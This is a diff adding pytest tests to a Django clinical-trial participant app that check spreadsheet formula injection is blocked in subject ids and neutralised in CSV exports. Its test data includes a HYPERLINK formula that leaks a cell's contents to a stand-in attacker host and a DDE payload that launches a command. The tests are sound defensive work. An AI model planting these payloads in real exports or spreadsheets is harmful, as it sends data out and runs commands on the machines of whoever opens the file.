@@ -1,13 +1,16 @@
 """Hostile input (issue 10, section 4) outside the command line: model fields, services,
 admin forms. The command line's side is in test_commands.py."""
 
+import csv
 import datetime
+import io
 
 import pytest
 import time_machine
 from django.core.exceptions import ValidationError
 from django.urls import reverse
 
+from participants.csv_cells import safe_cell, safe_row
 from participants.models import Participant, Status, Transition
 from participants.services import create_participant, record_transition
 from scheduling.models import Phase, VisitDefinition
@@ -237,3 +240,121 @@ def test_a_transition_before_1990_is_refused_even_after_a_stored_consent_of_year
     assert excinfo.value.message_dict == {
         "on": ["0001-02-01 is before 1990-01-01, the earliest date this protocol accepts."]
     }
+
+
+# Spreadsheet formulas: subject ids are checked; every CSV cell we write is neutralised.
+
+FORMULA = '=HYPERLINK("http://ev.il/?"&B2)'
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (FORMULA, "'" + FORMULA),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-35", "-35"),
+        ("+4.5", "+4.5"),
+        (-57, "-57"),
+        (D(2026, 3, 2), "2026-03-02"),
+        ("2026-03-02", "2026-03-02"),
+        (None, ""),
+        ("SLE-001-101-001", "SLE-001-101-001"),
+        ("Screening: consent and eligibility", "Screening: consent and eligibility"),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(value, cell):
+    assert safe_cell(value) == cell
+
+
+def test_safe_row_neutralises_every_cell_of_a_row():
+    assert safe_row([FORMULA, -35, None, D(2026, 1, 5)]) == ["'" + FORMULA, "-35", "", "2026-01-05"]
+
+
+@pytest.mark.parametrize(
+    "subject_id", [FORMULA, "+1", "-101-004", "@SUM", "SLE 001 101", "SLE/001", "Sübject"]
+)
+def test_a_subject_id_is_letters_digits_dashes_underscores_and_dots(protocol, site_ocn, subject_id):
+    with pytest.raises(ValidationError) as excinfo:
+        create_participant(
+            protocol=protocol,
+            site=site_ocn,
+            subject_id=subject_id,
+            email="p@example.org",
+            consent_date=D(2026, 1, 5),
+        )
+    assert excinfo.value.message_dict == {
+        "subject_id": [
+            f"“{subject_id}” is not a subject id: use letters, digits, “-”, “_” and “.”, "
+            "beginning with a letter or digit."
+        ]
+    }
+
+
+def test_a_protocol_may_narrow_its_subject_ids_with_a_pattern(protocol, make_participant):
+    protocol.subject_id_pattern = r"^SLE-001-\d{3}-\d{3}$"
+    protocol.full_clean()
+    protocol.save()
+    make_participant(subject_id="SLE-001-101-001")
+    with pytest.raises(ValidationError) as excinfo:
+        make_participant(subject_id="SLE-001-1-1")
+    assert excinfo.value.message_dict == {
+        "subject_id": [
+            r"“SLE-001-1-1” does not match the subject ids of protocol SLE-001 "
+            r"(^SLE-001-\d{3}-\d{3}$)."
+        ]
+    }
+
+
+def test_a_subject_id_pattern_must_be_a_regular_expression(protocol):
+    protocol.subject_id_pattern = "SLE-(001"
+    with pytest.raises(ValidationError) as excinfo:
+        protocol.full_clean()
+    assert excinfo.value.message_dict["subject_id_pattern"] == [
+        "“SLE-(001” is not a regular expression: missing ), unterminated subpattern at position 4."
+    ]
+
+
+def test_the_add_form_refuses_a_formula_as_subject_id_once(admin_client, protocol, site_ocn):
+    response = admin_client.post(
+        reverse("admin:participants_participant_add"),
+        {
+            "protocol": protocol.pk,
+            "site": site_ocn.pk,
+            "subject_id": "=1+1",
+            "email": "p50@example.org",
+            "consent_date": "2026-01-19",
+            "transitions-TOTAL_FORMS": 0,
+            "transitions-INITIAL_FORMS": 0,
+        },
+    )
+    assert response.status_code == 200
+    assert response.context["adminform"].form.errors["subject_id"] == [
+        "“=1+1” is not a subject id: use letters, digits, “-”, “_” and “.”, beginning with a "
+        "letter or digit."
+    ]
+    assert not Participant.objects.exists()
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="needs the integrator's change to the export action in scheduling/admin.py "
+    "(participants.csv_cells.safe_row); remove this marker with it",
+)
+def test_the_admin_export_action_writes_formulas_as_text(admin_client, make_participant):
+    participant = make_participant(consent_date=D(2026, 1, 5))
+    # Stored before subject ids were checked; visit names come from the protocol's plan.
+    Participant.objects.filter(pk=participant.pk).update(subject_id=FORMULA)
+    participant.visits.filter(code="SCR").update(name="@SUM(A1:A9)")
+    response = admin_client.post(
+        reverse("admin:participants_participant_changelist"),
+        {"action": "export_schedule", "_selected_action": [participant.pk]},
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    screening = next(row for row in rows if row[3] == "SCR")
+    assert screening[0] == "'" + FORMULA
+    assert screening[4] == "'@SUM(A1:A9)"
+    assert screening[8] == "-56"
